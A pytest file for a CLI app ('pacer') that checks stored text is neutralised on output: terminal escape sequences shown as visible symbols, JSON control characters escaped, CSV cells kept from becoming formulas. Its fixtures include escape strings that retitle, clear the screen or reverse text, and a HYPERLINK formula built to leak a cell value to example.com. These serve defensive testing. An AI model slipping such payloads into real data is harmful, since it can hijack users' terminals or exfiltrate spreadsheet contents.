"""Text from the data never acts on the terminal: escape sequences in a goal title or a session
note are printed as visible characters (pacer.domain.text.harmless), JSON stays JSON with every
control character escaped, and CSV cells are not formulas."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from pacer import cli
from pacer.calm_plain import run_calm_plain
from pacer.clock import FakeClock
from pacer.services import Services
from pacer.store import Store
from tests.cli.test_bounds import TZ, session, write_doc, write_log
from tests.cli.test_cli import run_pacer

#: Retitles the terminal, rings the bell and clears the screen when printed raw.
NASTY = "\u001b]0;TITLE\u0007\u001b[2J"
#: Also a C1 CSI and a right-to-left override.
NASTIER = NASTY + "\u009b31m\u202eevil"
RAW = ("\x1b", "\x07", "\x9b", "\u202e")


def no_raw_controls(text: str) -> None:
    for char in RAW:
        assert char not in text, f"{char!r} reached the terminal"


@pytest.fixture
def home(tmp_path: Path) -> Path:
    write_doc(tmp_path / "goals.json", "goals", [
        {"id": "g", "title": f"Garden {NASTIER} party", "next_step": f"Call {NASTY}"}])
    write_log(tmp_path / "sessions.jsonl", [
        session("2026-11-02T09:00:00+01:00", note=f"waiting room {NASTIER}"),
        session("2026-11-03T09:00:00+01:00", f"box{NASTY}"),  # a pattern key typed by hand
    ])
    write_doc(tmp_path / "patterns.json", "patterns", [
        {"id": f"mine{NASTY}", "name": f"Mine {NASTIER}", "rhythm": "4-0-6"}])
    write_doc(tmp_path / "appointments.json", "appointments", [
        {"id": "a", "kind": "scan", "when": "2026-12-03T09:30:00+01:00",
         "where": f"City {NASTIER}", "questions": [f"When {NASTY}?"]}])
    return tmp_path


@pytest.mark.parametrize("args", [["goals"], ["history"], ["history", "--csv"], ["patterns"]])
def test_listings_print_escape_sequences_as_visible_characters(
    args: list[str], home: Path
) -> None:
    result = run_pacer(*args, home=home)
    assert result.returncode == 0, result.stderr
    no_raw_controls(result.stdout)
    no_raw_controls(result.stderr)
    assert "␛]0;TITLE␇␛[2J" in result.stdout  # shown, so a person sees something is odd


def test_goals_and_history_show_the_words_around_the_escapes(home: Path, capsys) -> None:
    assert cli.main(["--data-dir", str(home), "goals"]) == 0
    out = capsys.readouterr().out
    assert "Garden ␛]0;TITLE␇␛[2J\\u009b31m\\u202eevil party" in out
    assert "Next small step: Call ␛]0;TITLE␇␛[2J" in out
    assert cli.main(["--data-dir", str(home), "history"]) == 0
    assert "box␛]0;TITLE␇␛[2J" in capsys.readouterr().out


@pytest.mark.parametrize("args", [["goals", "--json"], ["history", "--json"],
                                  ["patterns", "--json"]])
def test_json_is_json_with_every_control_escaped(args: list[str], home: Path) -> None:
    result = run_pacer(*args, home=home)
    assert result.returncode == 0, result.stderr
    no_raw_controls(result.stdout)
    assert "\\u001b" in result.stdout
    assert any(NASTY in text for text in strings(json.loads(result.stdout)))


def strings(value: object) -> list[str]:
    """Every string inside a decoded JSON value."""
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [s for v in value.values() for s in strings(v)]
    if isinstance(value, list):
        return [s for v in value for s in strings(v)]
    return []


def test_json_keeps_the_stored_text_exactly(home: Path, capsys) -> None:
    assert cli.main(["--data-dir", str(home), "goals", "--json"]) == 0
    (goal,) = json.loads(capsys.readouterr().out)
    assert goal["title"] == f"Garden {NASTIER} party"  # JSON is for programs: nothing altered
    assert cli.main(["--data-dir", str(home), "history", "--json"]) == 0
    notes = [r.get("note") for r in json.loads(capsys.readouterr().out)]
    assert f"waiting room {NASTIER}" in notes


def test_calm_plain_prints_appointments_questions_and_goals_harmlessly(home: Path) -> None:
    from datetime import datetime

    out = io.StringIO()
    answers = iter(["1", "", "s"])

    def read() -> str:
        try:
            return next(answers)
        except StopIteration:
            raise EOFError from None

    clock = FakeClock()
    run_calm_plain(Services.open(Store(home)), read, out, clock,
                   wall_clock=lambda: datetime(2026, 11, 30, 10, 0, tzinfo=TZ), wait=clock.set)
    text = out.getvalue()
    no_raw_controls(text)
    assert "Scan at City ␛]0;TITLE␇␛[2J" in text


def test_a_problem_line_on_stderr_is_harmless_too(tmp_path: Path) -> None:
    write_doc(tmp_path / "goals.json", "goals", [{"id": f"x{NASTY}", "title": 5}])
    result = run_pacer("goals", home=tmp_path)
    assert result.returncode == 1
    no_raw_controls(result.stderr)
    assert "goals[0]" in result.stderr


def test_history_csv_cells_are_never_formulas(tmp_path: Path) -> None:
    write_log(tmp_path / "sessions.jsonl", [
        session("2026-11-02T09:00:00+01:00",
                note='=HYPERLINK("http://example.com/?leak="&A1,"click")')])
    result = run_pacer("history", "--csv", home=tmp_path)
    assert result.returncode == 0
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    (note,) = [value for key, value in rows[0].items() if key and "note" in key.lower()]
    assert note.startswith("'=HYPERLINK")


def test_a_store_error_naming_a_field_with_a_control_character_is_one_safe_line(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A key of the imported file holds a record separator: the error names it visibly."""
    export = tmp_path / "export.json"
    export.write_text('{"logs": {"sessions.jsonl": [{"id": {"\\u001e\\u001b[2J": Infinity}}]}}')
    assert cli.main(["--data-dir", str(tmp_path / "data"), "import", str(export)]) == 1
    err = capsys.readouterr().err
    lines = err.strip().splitlines()
    assert len(lines) == 1, err
    no_raw_controls(err)
    assert "␛[2J" in lines[0]
